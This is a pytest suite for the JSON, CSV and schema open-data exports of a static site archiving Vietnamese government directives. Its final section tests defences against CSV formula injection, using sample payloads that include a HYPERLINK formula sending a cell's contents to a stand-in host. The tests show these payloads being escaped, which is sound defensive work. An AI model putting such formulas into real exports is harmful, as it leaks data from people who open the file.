"""Open data in the built sample site: a JSON per directive, the whole-archive JSON and CSV, their schemas."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pytest

jsonschema = pytest.importorskip("jsonschema")
referencing = pytest.importorskip("referencing")

from vanban.opendata import CSV_COLUMNS, SCHEMA_DIR  # noqa: E402

SITE_URL = "https://vanban.example.gov.vn/"


def _schemas(site: Path) -> dict[str, dict]:
    return {name: json.loads((site / "du-lieu" / name).read_text(encoding="utf-8"))
            for name in ("van-ban.schema.json", "kho-van-ban.schema.json")}


def _validator(site: Path, name: str):
    schemas = _schemas(site)
    registry = referencing.Registry().with_resources(
        (n, referencing.Resource.from_contents(s)) for n, s in schemas.items())
    cls = jsonschema.validators.validator_for(schemas[name])
    cls.check_schema(schemas[name])
    return cls(schemas[name], registry=registry, format_checker=cls.FORMAT_CHECKER)


def _directive_pages(site: Path) -> list[Path]:
    # A directive page is the folder that holds an index.html with the directive's marker.
    return sorted(p.parent for p in site.glob("van-ban/*/*/index.html")
                  if 'class="vb-directive"' in p.read_text(encoding="utf-8"))


def _export(site: Path) -> dict:
    return json.loads((site / "du-lieu" / "van-ban.json").read_text(encoding="utf-8"))


def test_every_directive_page_has_a_valid_json_beside_it(sample_site):
    site = sample_site.site
    validator = _validator(site, "van-ban.schema.json")
    pages = _directive_pages(site)
    assert len(pages) >= 10
    for folder in pages:
        data = json.loads((folder / "index.json").read_text(encoding="utf-8"))
        errors = sorted(validator.iter_errors(data), key=str)
        assert not errors, f"{folder}: {errors[0].message}"
        assert data["url"] == SITE_URL + folder.relative_to(site).as_posix() + "/"
        assert data["json_url"] == data["url"] + "index.json"
        html = (folder / "index.html").read_text(encoding="utf-8")
        assert data["number"] in html


def test_directive_json_carries_text_relations_both_ways_and_attachment_urls(sample_site):
    site = sample_site.site
    seed = json.loads((site / "van-ban/2023/stttt-ttbcxb-tuyen-truyen-cchc-sap-nhap-thon/index.json").read_text(encoding="utf-8"))
    assert seed["numbered"] is False and seed["number"] == "/STTTT-TTBCXB"
    assert seed["date"] == "2023" and seed["date_complete"] is False
    assert seed["text"].startswith("Thực hiện Kế hoạch số 02/KH-UBND")
    implements = {r["number"]: r["url"] for r in seed["relations"] if r["kind"] == "implements"}
    assert implements["02/KH-UBND"] == SITE_URL + "van-ban/2023/02-kh-ubnd/"
    assert seed["citation"].startswith("Công văn số /STTTT-TTBCXB")
    assert seed["signer"] == {"form": "KT. GIÁM ĐỐC", "position": "PHÓ GIÁM ĐỐC", "name": "Lê Hải Yến"}

    # What its text cites (issue 4's resolution): the four plans and the resolution, linked.
    cited = {c["number"]: c for c in seed["citations"]}
    assert set(cited) == {"02/KH-UBND", "07/KH-UBND", "1562/UBND-KT", "08/KH-UBND", "37/NQ-HĐND"}
    assert cited["1562/UBND-KT"]["url"] == SITE_URL + "van-ban/2022/1562-ubnd-kt/"
    assert cited["02/KH-UBND"]["text"].startswith("Kế hoạch số 02/KH-UBND ngày 04/01/2023")

    plan = json.loads((site / "van-ban/2023/02-kh-ubnd/index.json").read_text(encoding="utf-8"))
    assert {"number": "/STTTT-TTBCXB", "year": 2023, "url": seed["url"]} in plan["cited_by"]
    assert {"kind": "implements", "label": "Được thực hiện bởi", "number": "/STTTT-TTBCXB", "year": 2023,
            "url": seed["url"]} in plan["related_by"]

    decision = json.loads((site / "van-ban/2024/15-qd-stttt/index.json").read_text(encoding="utf-8"))
    files = [a for a in decision["attachments"] if a["url"]]
    assert files, "the sample decision has attachment files"
    for a in files:
        assert a["url"].startswith(decision["url"])
        local = site / a["url"][len(SITE_URL):]
        assert local.is_file() and local.stat().st_size == a["size"]
    signed = [a for a in files if "ky-so" in a["filename"]]
    assert signed and signed[0]["legal_value"] == "https://schema.org/OfficialLegalValue"
    assert decision["aliases"] == [SITE_URL + "van-ban/2024/qd-15-stttt/"]
    # Replaced by 40/QĐ-STTTT: the status comes from that directive's relation, and says so.
    assert (decision["status"], decision["status_computed"]) == ("bi-thay-the", True)
    assert {"kind": "replaces", "label": "Bị thay thế bởi", "number": "40/QĐ-STTTT", "year": 2025,
            "url": SITE_URL + "van-ban/2025/40-qd-stttt/"} in decision["related_by"]


def test_export_json_validates_and_lists_every_directive_without_text(sample_site):
    site = sample_site.site
    export = _export(site)
    errors = list(_validator(site, "kho-van-ban.schema.json").iter_errors(export))
    assert not errors, errors[0].message
    pages = {SITE_URL + p.relative_to(site).as_posix() + "/" for p in _directive_pages(site)}
    assert {d["url"] for d in export["directives"]} == pages
    assert export["count"] == len(pages)
    assert all("text" not in d for d in export["directives"])
    dates = [d["date"] for d in export["directives"] if d["date"]]
    assert export["newest_date"] == max(dates)


def test_export_rejects_what_the_schema_forbids(sample_site):
    # The schema is not a rubber stamp: a date in the Vietnamese display form or a stray field fails.
    site = sample_site.site
    validator = _validator(site, "kho-van-ban.schema.json")
    export = _export(site)
    bad_date = copy.deepcopy(export)
    bad_date["directives"][0]["date"] = "04/01/2023"
    assert not validator.is_valid(bad_date)
    with_text = copy.deepcopy(export)
    with_text["directives"][0]["text"] = "…"
    assert not validator.is_valid(with_text)
    stray = copy.deepcopy(export)
    stray["directives"][0]["so_ky_hieu"] = "x"
    assert not validator.is_valid(stray)


def test_csv_has_bom_header_and_round_trips_the_export(sample_site):
    site = sample_site.site
    raw = (site / "du-lieu" / "van-ban.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so that Excel reads Vietnamese correctly"
    assert b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    with (site / "du-lieu" / "van-ban.csv").open(encoding="utf-8-sig", newline="") as f:
        assert tuple(next(csv.reader(f))) == CSV_COLUMNS
    export = _export(site)
    assert len(rows) == len(export["directives"])
    for row, record in zip(rows, export["directives"]):
        assert row["url"] == record["url"]
        assert row["number"] == record["number"]
        assert row["subject"] == record["subject"]
        assert row["citation"] == record["citation"] and record["citation"].startswith(record["type"]["name"] + " ")
        assert row["date"] == (record["date"] or "")
        assert row["type_name"] == record["type"]["name"]
        assert row["topics"].split("; ") == [t["key"] for t in record["topics"]] or (not row["topics"] and not record["topics"])
        assert row["metadata_only"] == ("true" if record["metadata_only"] else "false")
        assert row["status"] == (record["status"] or "")
        assert row["citations"].split("; ") == [c["number"] for c in record["citations"]] or (not row["citations"] and not record["citations"])
    subjects = {row["subject"] for row in rows}
    assert any("“Đẩy mạnh phát triển kết cấu hạ tầng đồng bộ, hiện đại; thực hành" in s for s in subjects)


def test_published_schemas_are_the_shipped_ones(sample_site):
    for name, schema in _schemas(sample_site.site).items():
        assert schema == json.loads((SCHEMA_DIR / name).read_text(encoding="utf-8"))


def test_open_data_page_links_files_that_exist(sample_site):
    # The "Dữ liệu mở" page links generated files MkDocs cannot check: every link must land.
    import posixpath
    from html.parser import HTMLParser

    class Links(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.hrefs: list[str] = []

        def handle_starttag(self, tag, attrs) -> None:
            href = dict(attrs).get("href")
            if tag == "a" and href and not href.startswith(("http", "#", "mailto:")):
                self.hrefs.append(href)

    html = sample_site.page("du-lieu")
    article = html.split('<article', 1)[1].split("</article>", 1)[0]
    parser = Links()
    parser.feed(article)
    targets = {posixpath.normpath(posixpath.join("du-lieu", h)) for h in parser.hrefs}
    assert {"du-lieu/van-ban.csv", "du-lieu/van-ban.json", "du-lieu/van-ban.schema.json",
            "van-ban/atom.xml", "sitemap.xml"} <= targets
    for target in targets:
        path = sample_site.site / target
        assert path.is_file() or (path / "index.html").is_file(), target


def test_old_addresses_keep_their_json_and_the_manifest_lists_the_data_files(sample_site):
    site = sample_site.site
    canonical = (site / "van-ban/2024/15-qd-stttt/index.json").read_bytes()
    assert (site / "van-ban/2024/qd-15-stttt/index.json").read_bytes() == canonical  # the alias
    listed = {line.split("\t")[0] for line in (site / "_manifest/urls.txt").read_text(encoding="utf-8").splitlines()
              if line and not line.startswith("#")}
    for url in ["/du-lieu/van-ban.csv", "/du-lieu/van-ban.json", "/du-lieu/van-ban.schema.json",
                "/van-ban/atom.xml", "/loai/ke-hoach/atom.xml", "/van-ban/2024/15-qd-stttt/index.json",
                "/van-ban/2024/qd-15-stttt/index.json"]:
        assert url in listed, url
        assert (site / url.lstrip("/")).is_file(), url


def test_a_rebuild_into_the_same_folder_leaves_unchanged_data_files_alone(tmp_path):
    # `mkdocs serve --dirty` keeps the site folder: unchanged files must not be rewritten.
    import os

    from vanban.opendata import write_if_changed
    path = tmp_path / "a" / "index.json"
    assert write_if_changed(path, b"{}\n") and path.read_bytes() == b"{}\n"
    os.utime(path, (1, 1))
    assert not write_if_changed(path, b"{}\n") and path.stat().st_mtime == 1
    assert write_if_changed(path, b"[]\n") and path.read_bytes() == b"[]\n"


# ------------------------------------------------------------------------------------------------
# Under `make serve` (mkdocs serve --dirty) only what an edit changes is written again
# ------------------------------------------------------------------------------------------------

def _preview(tmp_path):
    import re

    from conftest import fixture_text, make_archive
    from test_serve import Server, wait_for
    folder = make_archive(tmp_path / "d", {"a.md": fixture_text("ke-hoach-hop-le.md"),
                                           "b.md": fixture_text("cong-van-hop-le.md")})
    server = Server(folder, tmp_path / "serve.log", tmp_path)
    server.wait_rebuild(1)
    wait_for(lambda: "Serving on" in server.text(), "the server")
    server.folder = folder
    server.site = Path(re.search(r"Config value 'site_dir' = '([^']+)'", server.text()).group(1))
    return server


OUTPUTS = ["van-ban/2022/1562-ubnd-kt/index.json", "van-ban/2023/02-kh-ubnd/index.json", "du-lieu/van-ban.json",
           "du-lieu/van-ban.csv", "van-ban/atom.xml", "loai/cong-van/atom.xml", "loai/ke-hoach/atom.xml",
           "_manifest/urls.txt", "so/1562-ubnd-kt/index.html"]


def _stamps(site: Path) -> dict[str, int]:
    return {rel: (site / rel).stat().st_mtime_ns for rel in OUTPUTS}


def test_a_body_edit_under_serve_rewrites_only_that_directives_json(tmp_path):
    server = _preview(tmp_path)
    try:
        before = _stamps(server.site)
        b = server.folder / "b.md"
        b.write_text(b.read_text(encoding="utf-8").replace("Thực hiện chỉ đạo", "Thực hiện ý kiến chỉ đạo"), encoding="utf-8")
        server.wait_rebuild(2)
        after = _stamps(server.site)
        assert {rel for rel in OUTPUTS if before[rel] != after[rel]} == {"van-ban/2022/1562-ubnd-kt/index.json"}
        data = json.loads((server.site / "van-ban/2022/1562-ubnd-kt/index.json").read_text(encoding="utf-8"))
        assert "Thực hiện ý kiến chỉ đạo" in data["text"]
    finally:
        server.stop()


def test_a_subject_edit_under_serve_updates_the_exports_and_feeds_not_the_other_json(tmp_path):
    import re
    server = _preview(tmp_path)
    try:
        before = _stamps(server.site)
        b = server.folder / "b.md"
        subject = "Tăng cường quản lý đất đai năm 2023"
        b.write_text(re.sub(r"(?m)^subject: .*$", f"subject: {subject}", b.read_text(encoding="utf-8")), encoding="utf-8")
        server.wait_rebuild(2)
        after = _stamps(server.site)
        changed = {rel for rel in OUTPUTS if before[rel] != after[rel]}
        assert changed == {"van-ban/2022/1562-ubnd-kt/index.json", "du-lieu/van-ban.json", "du-lieu/van-ban.csv",
                           "van-ban/atom.xml", "loai/cong-van/atom.xml", "so/1562-ubnd-kt/index.html"}, changed
        exported = {d["number"]: d["subject"] for d in _export(server.site)["directives"]}
        assert exported["1562/UBND-KT"] == subject
        rows = list(csv.DictReader(io.StringIO((server.site / "du-lieu/van-ban.csv").read_text(encoding="utf-8-sig"))))
        assert [r["subject"] for r in rows if r["number"] == "1562/UBND-KT"] == [subject]
        assert subject in (server.site / "van-ban/atom.xml").read_text(encoding="utf-8")
        # What the edit changes is what a cold build writes (`mkdocs serve` sets its own site_url).
        from vanban.opendata import write_open_data
        from vanban.project import load_archive
        fresh = tmp_path / "fresh"
        write_open_data(fresh, load_archive(server.folder, server.folder.parent).archive, _export(server.site)["source"])
        for rel in ("du-lieu/van-ban.json", "du-lieu/van-ban.csv", "van-ban/2022/1562-ubnd-kt/index.json",
                    "van-ban/2023/02-kh-ubnd/index.json"):
            assert (server.site / rel).read_bytes() == (fresh / rel).read_bytes(), rel
    finally:
        server.stop()


# ------------------------------------------------------------------------------------------------
# CSV formula injection (OWASP): the spreadsheet shows text; the JSON keeps the text as written
# ------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', "+84 205 3812 345", "-2+3 công việc",
            "@SUM(A1:A9) kinh phí"]


def test_csv_cells_that_look_like_formulas_are_text_and_json_is_unchanged(tmp_path):
    from conftest import fixture_text, make_archive
    from vanban.opendata import write_open_data
    from vanban.project import load_archive

    files = {}
    for i, subject in enumerate(FORMULAS, 1):
        text = fixture_text("ke-hoach-hop-le.md").replace("number: 02/KH-UBND", f"number: {i}/KH-UBND")
        files[f"2023/{i}.md"] = text.replace("subject: Cải cách hành chính tỉnh Lạng Sơn năm 2023",
                                             f"subject: {json.dumps(subject, ensure_ascii=False)}")
    loaded = load_archive(make_archive(tmp_path / "d", files), tmp_path)
    assert not loaded.errors, loaded.errors
    write_open_data(tmp_path / "site", loaded.archive, SITE_URL)
    with (tmp_path / "site" / "du-lieu" / "van-ban.csv").open(encoding="utf-8-sig", newline="") as f:
        subjects = sorted(row["subject"] for row in csv.DictReader(f))
    assert subjects == sorted("'" + s for s in FORMULAS)
    data = json.loads((tmp_path / "site" / "du-lieu" / "van-ban.json").read_text(encoding="utf-8"))
    assert sorted(d["subject"] for d in data["directives"]) == sorted(FORMULAS)


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Kế hoạch = 1", "Kế hoạch = 1"), ("", ""), ("https://a.vn/", "https://a.vn/"),
])
def test_csv_cell(value, cell):
    from vanban.opendata import csv_cell
    assert csv_cell(value) == cell
